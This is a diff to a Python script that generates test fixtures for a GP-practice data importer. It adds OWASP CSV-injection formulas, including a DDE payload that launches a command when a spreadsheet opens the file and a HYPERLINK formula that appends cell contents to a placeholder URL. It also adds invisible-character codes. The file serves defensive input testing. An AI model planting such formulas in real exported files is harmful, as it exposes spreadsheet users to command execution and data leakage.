@@ -45,6 +45,18 @@ HOSTILE_NAMES = [
     "<b>Bold</b> &amp; entity",
 ]
 
+#: Text a spreadsheet evaluates (OWASP CSV injection), for names, codes and place ids.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "'=already quoted",
+]
+
 
 def practices(seed: int = 7) -> list[dict[str, object]]:
     """The good practices: 9 in WEST (two PCNs), 6 in EAST (one), 7,000-8,300 patients each."""
@@ -73,10 +85,16 @@ def _csv(
     encoding: str = "utf-8",
     newline: str = "\n",
     header: list[str] = HEADER,
+    quoting: int = csv.QUOTE_MINIMAL,
 ) -> None:
     with path.open("w", encoding=encoding, newline="") as f:
         writer = csv.DictWriter(
-            f, fieldnames=header, delimiter=delimiter, lineterminator=newline, extrasaction="ignore"
+            f,
+            fieldnames=header,
+            delimiter=delimiter,
+            lineterminator=newline,
+            extrasaction="ignore",
+            quoting=quoting,
         )
         writer.writeheader()
         writer.writerows(rows)
@@ -159,6 +177,24 @@ def main(folder: Path = HERE) -> None:
             ("EAST", "Dwyrain, Ëast — 東", _polygon(EAST)),
         ],
     )
+    formulas = [
+        dict(r, name=FORMULAS[k % len(FORMULAS)], current_pcn=FORMULAS[-k % len(FORMULAS)])
+        for k, r in enumerate(good)
+    ]
+    formulas[0]["practice_code"] = "=W0001"
+    _csv(
+        folder / "formula_names.csv",
+        formulas,
+        header=[*HEADER, "current_pcn"],
+        quoting=csv.QUOTE_ALL,  # a bare carriage return ends a row
+    )
+    _places(
+        folder / "places_formula_ids.geojson",
+        [
+            ('=HYPERLINK("http://example.invalid","W")', "=1+1 West", _polygon(WEST)),
+            ("@EAST", "-East", _polygon(EAST)),
+        ],
+    )
     cp1252 = [dict(r, name=f"Café {k}") for k, r in enumerate(good)]
     _csv(folder / "pipe_crlf_cp1252.csv", cp1252, delimiter="|", encoding="cp1252", newline="\r\n")
     _csv(folder / "semicolon.csv", good, delimiter=";")
@@ -220,6 +256,11 @@ def main(folder: Path = HERE) -> None:
     (folder / "header_only.csv").write_text(lines[0] + "\n", encoding="utf-8")
     (folder / "spreadsheet.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)))
     _csv(folder / "duplicate_codes.csv", [*good, dict(good[3], name="Copy of row 5")])
+    invisible = [
+        dict(good[3], practice_code="\u200bW0004\u2060", name="Zero-width copy of row 5"),
+        dict(good[6], practice_code="W0007\ufeff\u00ad", name="BOM copy of row 8"),
+    ]
+    _csv(folder / "invisible_codes.csv", [*good, *invisible])
     nan = [dict(r, lat="NaN") if k == 2 else r for k, r in enumerate(good)]
     nan[5] = dict(nan[5], lon="")
     _csv(folder / "nan_coordinates.csv", nan)
